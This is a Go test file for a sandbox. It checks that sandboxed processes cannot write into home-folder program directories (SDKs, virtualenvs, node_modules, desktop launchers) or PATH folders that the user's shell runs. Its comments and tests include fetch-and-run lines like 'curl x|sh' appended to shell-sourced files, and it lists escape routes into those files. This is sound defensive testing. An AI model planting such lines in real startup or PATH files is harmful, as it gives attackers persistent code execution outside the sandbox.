package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Issue 21 (attack a11): the home folder rule keeps read-only the dot entries and nine named
// program folders (homeProgramFolders), but common installers put code
// the person's shell sources or runs at every start into other non-dot
// folders of the home folder, which stay writable with the home folder
// granted:
//   - ~/google-cloud-sdk/path.bash.inc, sourced by ~/.bashrc (Google's
//     install.sh default and its own edit of ~/.bashrc);
//   - ~/venv/bin/activate (`python3 -m venv ~/venv`, sourced from ~/.bashrc)
//     and its python;
//   - ~/perl5/lib/perl5 (local::lib: PERL5LIB puts it before the system's
//     modules, so a strict.pm there runs in every perl, git's scripts too);
//   - ~/Android/Sdk/platform-tools/adb (Android Studio's default SDK);
//   - ~/flutter/bin/flutter (Flutter's documented install);
//   - ~/Applications/*.AppImage (AppImageLauncher's folder, menu entries
//     run them);
//   - ~/miniconda/bin/conda (conda's installer accepts any prefix; the
//     list has miniconda3 but not miniconda, miniforge, anaconda);
//   - ~/node_modules (node resolves require() up to the home folder from
//     every project below it);
//   - ~/Desktop/*.desktop (KDE Plasma and Xfce run an executable launcher
//     on the desktop when clicked; chmod +x is allowed);
//   - ~/R/<platform>-library (R_LIBS_USER: R loads the person's packages
//     from there before the system's).
//
// Reproduction: grant ~; in shell_exec: echo 'curl x|sh' >> ~/google-cloud-sdk/path.bash.inc
func TestHomeProgramFoldersWithoutDot(t *testing.T) {
	requireLandlock(t)
	files := map[string]string{
		"google-cloud-sdk/path.bash.inc":                "export PATH=~/google-cloud-sdk/bin:$PATH\n",
		"venv/bin/activate":                             "VIRTUAL_ENV=~/venv\n",
		"perl5/lib/perl5/local/lib.pm":                  "1;\n",
		"Android/Sdk/platform-tools/adb":                "#!/bin/sh\n",
		"flutter/bin/flutter":                           "#!/bin/sh\n",
		"Applications/Obsidian.AppImage":                "#!/bin/sh\n",
		"miniconda/bin/conda":                           "#!/bin/sh\n",
		"node_modules/lodash/index.js":                  "module.exports = {}\n",
		"Documents/notes.txt":                           "mine\n",
		"R/x86_64-pc-linux-gnu-library/4.3/base/R/base": "",
		"Desktop/firefox.desktop":                       "[Desktop Entry]\nExec=firefox\n",
		".bashrc":                                       "source ~/google-cloud-sdk/path.bash.inc\n",
	}
	home := homeWith(t, files)
	in := func(rel string) string { return filepath.Join(home, rel) }
	for who, p := range homeGrantedPolicies(t, home) {
		for _, rel := range []string{"google-cloud-sdk/path.bash.inc", "venv/bin/activate", "perl5/lib/perl5/local/lib.pm",
			"Android/Sdk/platform-tools/adb", "flutter/bin/flutter", "Applications/Obsidian.AppImage", "miniconda/bin/conda",
			"node_modules/lodash/index.js", "R/x86_64-pc-linux-gnu-library/4.3/base/R/base", "Desktop/firefox.desktop"} {
			t.Run(who+" ~/"+rel, func(t *testing.T) {
				if out, ok := run(t, p, "echo /tmp/pwn >> "+in(rel)); ok {
					t.Errorf("a sandboxed %s with the home folder granted wrote ~/%s: succeeded (%s); the person's shell or tools run it outside any sandbox", who, rel, out)
				}
			})
		}
	}
}

// TestHomeFoldersOnPathReadOnly: a folder of the person's PATH inside the
// home folder (~/scripts, ~/local/bin, named by no list) holds what their
// shell runs by name; with the home folder granted no sandbox may plant a
// `git` there, while the person's other folders stay writable.
//
// Reproduction: PATH=~/scripts:$PATH; grant ~; in shell_exec:
// printf '#!/bin/sh\ncurl x|sh\n' > ~/scripts/git
func TestHomeFoldersOnPathReadOnly(t *testing.T) {
	requireLandlock(t)
	home := homeWith(t, map[string]string{
		"scripts/backup":     "#!/bin/sh\n",
		"local/bin/deploy":   "#!/bin/sh\n",
		"Documents/notes.md": "mine\n",
	})
	in := func(rel string) string { return filepath.Join(home, rel) }
	t.Setenv("PATH", in("scripts")+string(filepath.ListSeparator)+in("local/bin")+string(filepath.ListSeparator)+
		home+string(filepath.ListSeparator)+"relative/bin"+string(filepath.ListSeparator)+os.Getenv("PATH"))
	for who, p := range homeGrantedPolicies(t, home) {
		for _, rel := range []string{"scripts/git", "scripts/backup", "local/bin/git", "local/bin/deploy"} {
			t.Run(who+" writes ~/"+rel, func(t *testing.T) {
				if out, ok := run(t, p, "echo 'curl x|sh' >> "+in(rel)); ok {
					t.Errorf("a sandboxed %s with the home folder granted wrote ~/%s, a folder on the person's PATH: succeeded (%s); their shell runs it by name outside any sandbox", who, rel, out)
				}
			})
		}
		t.Run(who+" runs ~/scripts/backup", func(t *testing.T) {
			if out, ok := run(t, p, "sh "+in("scripts/backup")+" && echo ran"); !ok || !strings.Contains(out, "ran") {
				t.Errorf("a sandboxed %s could not run ~/scripts/backup (%s): folders on PATH stay readable and runnable", who, out)
			}
		})
		t.Run(who+" writes ~/Documents", func(t *testing.T) {
			if out, ok := run(t, p, "echo more >> "+in("Documents/notes.md")); !ok {
				t.Errorf("a sandboxed %s could not write ~/Documents/notes.md (%s): only PATH's folders become read-only", who, out)
			}
		})
	}
}
